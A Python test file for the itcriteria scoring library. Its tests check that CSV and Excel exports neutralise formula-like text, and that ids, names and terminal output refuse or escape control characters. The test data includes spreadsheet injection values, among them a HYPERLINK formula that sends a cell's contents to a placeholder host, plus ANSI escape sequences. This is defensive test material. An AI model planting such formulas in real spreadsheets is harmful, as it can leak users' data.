"""Output that cannot execute: text cells a spreadsheet would run are neutralised in CSV and written as
text in xlsx, numbers stay numbers, and our own reader gives the text back."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

import itcriteria
from builders import build, leaf, ratio
from itcriteria._core import neutralise_cell, printable, restore_cell
from itcriteria.cli.commands import cli
from itcriteria.results.totals import read_totals
from itcriteria.results.writing import write_ranking, write_results

NAMES = ['=HYPERLINK("http://x.example/"&A1,"x")', "+1+2", "-3+4", "@SUM(A1)", "'=kept", "Sở Y tế"]


def regime() -> itcriteria.Regime:
    return build(leaf("1", 10, ratio(), title="=1+2"), leaf("2", 4, {"kind": "yes_no", "label": "@Có"}))


def round_result() -> itcriteria.RoundResult:
    units = [itcriteria.Unit(f"u{i}", name, "so") for i, name in enumerate(NAMES)]
    forms = [
        itcriteria.Submission(
            unit,
            {"1": itcriteria.Answer(numerator=i, denominator=10), "2": itcriteria.Answer(value=True)},
        )
        for i, unit in enumerate(units)
    ]
    return itcriteria.Round(regime(), tuple(units), tuple(forms)).run()


def test_neutralising_is_reversible_and_leaves_plain_text_alone() -> None:
    """Every trigger character gets an apostrophe; text already quoted gets one more; restore undoes it."""
    for text in ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''-", "'plain", "plain", "", "1-2"]:
        written = neutralise_cell(text)
        assert restore_cell(written) == text
        assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert neutralise_cell("Sở Y tế") == "Sở Y tế" and neutralise_cell("'plain") == "'plain"


@pytest.mark.parametrize("decimal_comma", [False, True])
def test_results_csv_neutralises_text_keeps_numbers_and_reads_back(
    tmp_path: Path, decimal_comma: bool
) -> None:
    """No CSV text cell starts with a trigger; totals are numbers; read_totals restores the names."""
    path = tmp_path / "ket-qua.csv"
    write_results(round_result(), path, decimal_comma=decimal_comma)
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";" if decimal_comma else ","))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {row[rows[0].index("Tên đơn vị")] for row in rows[1:]}
    assert '\'=HYPERLINK("http://x.example/"&A1,"x")' in names and "''=kept" in names
    totals = [row[rows[0].index("Tổng điểm")] for row in rows[1:]]
    assert all(Decimal(total.replace(",", ".")) >= 0 for total in totals)
    keep = [rows[0].index(column) for column in ("Mã đơn vị", "Mã nhóm", "Tổng điểm", "Tên đơn vị")]
    totals_file = tmp_path / "tong.csv"  # the same cells, in the columns of a totals file
    with totals_file.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows([[row[i] for i in keep] for row in rows])
    back = read_totals(totals_file)
    assert sorted(entry["name"] for entry in back) == sorted(NAMES)
    # the results file itself reads back the same, with its maxima
    assert [{k: v for k, v in entry.items() if k != "max"} for entry in read_totals(path)] == back


def test_negative_numbers_stay_numbers_in_csv(tmp_path: Path) -> None:
    """A negative total (points taken off) is written as a number, not neutralised as text."""
    rows = itcriteria.rank([{"unit": "u1", "name": "-x", "group": "so", "total": Decimal("-1.5")}])
    path = tmp_path / "r.csv"
    write_ranking(rows, None, path)
    line = path.read_text("utf-8-sig").splitlines()[1]
    assert ",-1.5," in line and ",'-x," in line


def test_xlsx_results_write_every_text_as_a_string_cell(tmp_path: Path) -> None:
    """No cell of the results workbook is a formula: names and titles starting with = are text cells."""
    path = tmp_path / "ket-qua.xlsx"
    write_results(round_result(), path, lang="en")
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(NAMES) <= texts and "=1+2" in texts
    assert any(isinstance(cell.value, int | float) and not isinstance(cell.value, bool) for cell in cells)


def test_a_template_of_a_regime_with_formula_like_titles_has_no_formulas(tmp_path: Path) -> None:
    """A criterion titled "=1+2" is a text cell in the Excel template."""
    path = tmp_path / "mau.xlsx"
    itcriteria.write_template(regime(), path)
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert any(cell.value == "=1+2" and cell.data_type == "s" for cell in cells)


# --- ids and control characters on the way in -------------------------------------------------------


def test_unit_ids_are_validated_like_regime_ids() -> None:
    """A unit id with a formula, spaces or capitals is refused; a slug is accepted."""
    assert itcriteria.Unit("so-tttt_2", "Sở", "so").id == "so-tttt_2"
    for bad in ['=HYPERLINK("x")', "Sở TTTT", "A1", "", "a" * 101]:
        with pytest.raises(ValueError, match="unit id"):
            itcriteria.Unit(bad, "x", "so")


def test_every_bad_unit_id_of_a_round_file_is_listed_at_once(tmp_path: Path) -> None:
    """A round roster with two bad ids and a control character in a name names all three problems."""
    units: list[dict[str, Any]] = [
        {"id": "=1+2", "name": "a", "group": "so-nganh"},
        {"id": "ok", "name": "b\x1b[2J", "group": "so-nganh"},
        {"id": "Bad Id", "name": "c", "group": "so-nganh"},
    ]
    from itcriteria.rounds import round_from_dict

    with pytest.raises(itcriteria.SubmissionError) as caught:
        round_from_dict({"regime": "binhthuan-2019", "units": units, "forms": []})
    text = str(caught.value)
    assert "units[0]" in text and "units[2]" in text and "units[1]" in text
    assert "U+001B" in text and "\x1b" not in text


def test_rank_entries_and_totals_name_every_bad_id(tmp_path: Path) -> None:
    """rank() lists each entry whose unit or parent is not an id, or whose name holds a control character."""
    entries = [
        {"unit": "=cmd", "group": "so", "total": 1},
        {"unit": "ok", "name": "x\x07", "group": "so", "total": 1},
        {"unit": "ok2", "parent": "@p", "group": "so", "total": 1},
    ]
    with pytest.raises(itcriteria.SubmissionError) as caught:
        itcriteria.rank(entries)
    wheres = [problem.where for problem in caught.value.problems]
    assert wheres == ["entries[0].unit", "entries[1].name", "entries[2].parent"]


def test_control_characters_are_refused_in_forms_but_line_breaks_kept_in_notes() -> None:
    """A name with an escape sequence is refused; a note with a line break is kept."""
    with pytest.raises(itcriteria.SubmissionError, match=r"U\+001B"):
        itcriteria.Submission.from_dict({"unit": {"id": "u", "name": "\x1b[31mred", "group": "so"}})
    answer = itcriteria.Answer(value=True, note="line one\nline two\tend")
    assert answer.note.count("\n") == 1
    with pytest.raises(ValueError, match=r"U\+0007"):
        itcriteria.Answer(value=True, evidence="bell\x07")
    with pytest.raises(ValueError, match=r"U\+202E"):
        itcriteria.Unit("u", "abc\u202edcba", "so")


def test_the_terminal_never_receives_control_characters(tmp_path: Path) -> None:
    """printable escapes them, and the command line prints a regime's error about escape sequences escaped."""
    assert printable("a\x1b[31mb\r") == "a\\x1b[31mb\\r"
    assert printable("a\nb\tc", lines=True) == "a\nb\tc"
    path = tmp_path / "round.json"
    path.write_text(
        '{"regime": "binhthuan-2019", "units": [{"id": "\\u001b[2J", "name": "x", "group": "so-nganh"}]}'
    )
    done = CliRunner().invoke(cli, ["round", str(path)])
    assert done.exit_code == 1
    assert "\x1b" not in done.output and "\\x1b" in done.output
